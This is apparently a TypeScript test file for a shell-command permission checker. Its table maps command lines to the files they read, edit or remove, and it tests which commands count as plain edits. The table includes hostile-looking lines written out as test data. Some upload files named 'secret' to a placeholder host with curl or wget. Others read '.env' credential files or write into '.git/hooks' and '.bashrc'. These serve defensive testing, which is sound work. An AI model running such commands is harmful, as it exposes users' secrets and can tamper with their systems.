import { assert, describe, it } from "@effect/vitest"
import * as Schema from "effect/Schema"
import { acceptEditsPrograms, editsOnly, isRemoval } from "../../../../src/permission/bash/files/acceptEdits.ts"
import { filesOf } from "../../../../src/permission/bash/files/filesOf.ts"
import { writers } from "../../../../src/permission/bash/files/writers.ts"
import { lookers } from "../../../../src/permission/bash/readOnly/programs/lookers.ts"
import { commandOf } from "../readOnly/commandOf.ts"

/** Lists the uses of a line: `r:a` is read, `e:` edited, `x:` removed, and a star says recursive. */
const files = (line: string): string =>
  filesOf(commandOf(line)).map(({ access, recursive, word }) =>
    `${access === "remove" ? "x" : access.charAt(0)}${recursive ? "*" : ""}:${word.value ?? word.known.join("…")}`
  ).join(" ")

const table: ReadonlyArray<readonly [line: string, files: string]> = [
  ["cat a b", "r:a r:b"],
  ["/bin/cat a", "r:a"],
  ["head -1 server/.env", "r:server/.env"],
  ["grep -n foo docs/guide.md", "r:docs/guide.md"],
  ["grep -rn foo src", "r*:src"],
  ["grep -e foo a", "r:a"],
  ["grep --unknown secret a", "r:secret r:a"],
  ["cat --unknown=secret", "r:secret"],
  ["cat -Zsecret", "r:secret"],
  ["sort -o out in", "e:out r:in"],
  ["sort -oout in", "e:out r:in"],
  ["sort --output=out in", "e:out r:in"],
  ["uniq in out", "r:in e:out"],
  ["less -o log a", "e:log r:a"],
  ["source .env", "r:.env"],
  [". ./.env x", "r:./.env"],
  ["tee -a .env x", "e:.env e:x"],
  ["touch -r ref a", "r:ref e:a"],
  ["mkdir -p -m 700 a b", "e:a e:b"],
  ["rm -rf a b", "x*:a x*:b"],
  ["rm -- -f", "x:-f"],
  ["rmdir a", "x:a"],
  ["unlink a", "x:a"],
  ["mv a b.txt", "x*:a e:b.txt"],
  ["mv a b c", "x*:a x*:b e:c e:c/a e:c/b"],
  ["mv a dir/", "x*:a e:dir/ e:dir/a"],
  ["cp a b.txt", "r:a e:b.txt"],
  ["cp -r a b", "r*:a e*:b e*:b/a"],
  ["cp x/.env .", "r:x/.env e:. e:./.env"],
  ["cp -t out a", "e:out r:a e:out/a"],
  ["cp --target-directory=out a", "e:out r:a e:out/a"],
  ["cp -T a b", "r:a e:b"],
  ["cp --frob a b", "r:a r:b e:a e:b"],
  ["cp $x b", "r:… r:b e:… e:b"],
  ["ln -s ../x y.txt", "r:../x e:y.txt"],
  ["ln -s ../x", "r:../x e:./x"],
  ["dd if=a of=.env bs=1k", "r:a e:.env"],
  ["truncate -s 0 a", "e:a"],
  ["sed -i s/a/b/ f", "e:f"],
  ["sed -i.bak -e s/a/b/ f", "e:f e:f.bak"],
  ["sed -irc s/a/b/ sub/.bash", "e:sub/.bash e:sub/.bashrc e:.bashrc"],
  ["sed '-i.git/hooks/*' s/a/b/ f", "e:f e:.git/hooks/f"],
  ["sed '--in-place=/tmp/*.k' s/a/b/ d/f", "e:d/f e:/tmp/d/f.k e:/tmp/f.k e:d//tmp/f.k"],
  ["cp --parents .claude/x ..", "r:.claude/x e:.. e:../.claude/x"],
  ["grep -d recurse x .", "r*:."],
  ["grep --directories=rec x", "r*:."],
  ["grep -d skip x f", "r:f"],
  ["head a -n /b", "r:/b r:a"],
  ["head -n /b a", "r:a"],
  ["cut -f1 a -d /", "r:a"],
  ["rg x a -g y", "r*:a"],
  ["awk p -v /b", "r:-v r:/b"],
  ["diff a b", "r*:a r*:b"],
  ["git diff --no-index a b", "r*:a r*:b"],
  ["unzip x.zip -l y", "r:x.zip e*:."],
  ["unzip x.zip -d out", "r:x.zip e*:out"],
  ["unzip -l x.zip", "r:x.zip"],
  ["curl file:///etc/x", "r:/etc/x"],
  ["curl FILE:/etc/%2Eenv", "r:/etc/.env"],
  ["curl -b .env https://x", "r:.env"],
  ["curl -b a=b https://x", ""],
  ["xargs -a .env echo", "r:.env"],
  ["bash -v .env", "r:.env"],
  ["bash -c .env", ""],
  ["make -f .env all", "r:.env"],
  ["docker run --env-file .env x", "r:.env"],
  ["node --env-file=.env x", "r:.env"],
  ["openssl enc -in .env -out y", "r:.env e:y"],
  ["gcc -o .git/x a.c -include .env", "e:.git/x r:a.c r:.env"],
  ["strace -o .git/x ls", "e:.git/x"],
  ["go build -o.git/x .", "e:.git/x"],
  ["script .git/x", "e:.git/x"],
  ["cat /proc/self/cwd/.env", "r:/proc/self/cwd/.env…"],
  ["cat /proc/1/root/etc/x /dev/fd/../cwd/x", "r:/proc/1/root/etc/x… r:/dev/fd/../cwd/x…"],
  ["cat /proc/cpuinfo /dev/fd/3", "r:/proc/cpuinfo"],
  ["vimdiff .env x", "e:.env e:x"],
  ["sdiff .env x", "r:.env r:x"],
  ["7z a x.7z .env", "e:x.7z r*:.env"],
  ["sed -n 1p f", "r:f"],
  ["sed 's/a/b/w out' f", "r:f e:out"],
  ["sed -e 'r secret' f", "r:f r:secret"],
  ["awk '{print > \"out\"}' f", "r:f e:out"],
  ["chmod +x a", "e:a"],
  ["chmod -x a", "e:a"],
  ["chmod -R 777 a", "e*:a"],
  ["chown me a", "e:a"],
  ["patch -p1 -i fix.diff", "r:fix.diff e*:."],
  ["patch a fix.diff", "e:a r:fix.diff"],
  ["sponge a", "e:a"],
  ["split -l 5 a pre", "r:a e:pre"],
  ["shred -u a", "x:a"],
  ["tar czf a.tgz d e", "e:a.tgz r*:d r*:e"],
  ["tar -czf a.tgz -C x d", "e:a.tgz r*:x/d"],
  ["tar -xf a.tgz -C out", "r:a.tgz e*:out"],
  ["tar xf a.tgz", "r:a.tgz e*:."],
  ["tar -tf a.tgz", "r:a.tgz"],
  ["zip -r a.zip d", "e:a.zip r*:d"],
  ["unzip a.zip", "r:a.zip e*:."],
  ["unzip -d out a.zip", "r:a.zip e*:out"],
  ["unzip -l a.zip", "r:a.zip"],
  ["gzip a", "e:a"],
  ["gunzip -c a.gz", "r:a.gz"],
  ["curl -o out https://x.invalid/a", "e:out"],
  ["curl -O https://x.invalid/d/a.txt?x", "e:a.txt"],
  ["curl -d @secret https://x.invalid", "r:secret"],
  ["curl --data-binary @secret https://x.invalid", "r:secret"],
  ["curl -F file=@secret https://x.invalid", "r:secret"],
  ["curl -T secret https://x.invalid", "r:secret"],
  ["curl -d a=b https://x.invalid", ""],
  ["wget https://x.invalid/a.txt", "e:a.txt"],
  ["wget -O out https://x.invalid/a.txt", "e:out"],
  ["wget -P dir https://x.invalid/a.txt", "e:dir/a.txt"],
  ["wget --post-file=secret https://x.invalid/a", "r:secret e:a"],
  ["rsync -a a/ b", "r*:a/ e*:b e*:b/a"],
  ["find a b -name x", "r:a r:b"],
  ["find a -delete", "r:a x*:a"],
  ["find -delete", "x*:. r:."],
  ["find a -fprint out", "e:out r:a"],
  ["find a -exec rm b ;", "r:a"],
  ["git rm -r a", "x*:a"],
  ["git rm --cached a", ""],
  ["git mv a b.txt", "x*:a e:b.txt"],
  ["git checkout -- a", "e*:a"],
  ["git restore a", "e*:a"],
  ["git restore --staged a", ""],
  ["git clean -fd", "x*:."],
  ["git apply a.diff", "r:a.diff e*:."],
  ["git apply --check a.diff", "r:a.diff"],
  ["git apply --directory=sub a.diff", "r:a.diff e*:sub"],
  ["git -C sub am a.diff", "r:sub/a.diff e*:sub/."],
  ["git show HEAD:.env", "r:HEAD:.env r:.env"],
  ["git diff --output=out", "e:out"],
  ["git -C sub rm a", "x:sub/a"],
  ["git -C sub -C deep rm a", "x:sub/deep/a"],
  ["git -C sub rm /a", "x:/a"],
  ["git clone https://x.invalid/a/b.git", "e*:b"],
  ["git clone https://x.invalid/a/b.git c", "e*:c"],
  ["git archive -o out.tar HEAD", "e:out.tar"],
  ["git log -L 1,5:.env", "r:.env"],
  ["git commit -m x", ""],
  ["perl -pi -e s/a/b/ f", "e:f"],
  ["perl -ne print f", "r:f"],
  ["cd sub", "r:sub"],
  ["echo a b", ""],
  ["npm test a", ""],
  ["toString a", ""],
  ["$x a", ""]
]

describe("filesOf", () => {
  for (const [line, expected] of table) {
    it(`${line}: ${expected === "" ? "no file" : expected}`, () => {
      assert.strictEqual(files(line), expected)
    })
  }

  it("no program is written down twice by accident: a writer that also looks keeps its files", () => {
    const both = Object.keys(writers).filter((name) => Object.hasOwn(lookers, name))
    assert.deepStrictEqual(both.sort(), ["docker", "git", "gunzip", "gzip", "podman", "tar", "unzip"])
  })

  it.prop(
    "a plain argument of a reader or writer is always found, whatever flags stand before it",
    {
      program: Schema.Literals([
        "cat",
        "head",
        "tee",
        "touch",
        "rm",
        "chmod",
        "cp",
        "mv",
        "sort",
        "grep",
        "less",
        "wc"
      ]),
      flag: Schema.Literals(["--frob", "-§", "--frob=x", "-v", ""])
    },
    ({ flag, program }) => {
      const before = program === "grep" || program === "chmod" ? "pattern " : ""
      assert.include(files(`${program} ${flag} ${before}secret other`), "secret")
    }
  )
})

describe("acceptEdits", () => {
  it("knows the plain edits", () => {
    for (
      const line of [
        "mkdir -p a",
        "touch a",
        "rm -rf a",
        "rmdir a",
        "mv a b",
        "cp -r a b",
        "sed -i s/a/b/ f",
        "sed -n 1p f"
      ]
    ) {
      assert.isTrue(editsOnly(commandOf(line)), line)
    }
  })

  it("knows what does more or can't be read", () => {
    const lines = [
      "sed -i '1e touch x' f",
      "sed 's/a/b/w out' f",
      "sed -f script f",
      "cp --frob a b",
      "rm $x",
      "rm *",
      "chmod +x a",
      "ls",
      "/bin/rm a",
      "$x a",
      "mv \"$x\" b",
      "cp -r x/. .",
      "cp -rT x .",
      "cp -R sub/ .",
      "cp -a -t . x/..",
      "mv -T x ."
    ]
    assert.deepStrictEqual(lines.filter((line) => editsOnly(commandOf(line))), [])
  })

  it("removal is by name, whatever the path", () => {
    assert.isTrue(isRemoval(commandOf("rm a")))
    assert.isTrue(isRemoval(commandOf("/bin/rmdir a")))
    assert.isFalse(isRemoval(commandOf("farm a")))
    assert.strictEqual(acceptEditsPrograms.size, 7)
  })
})
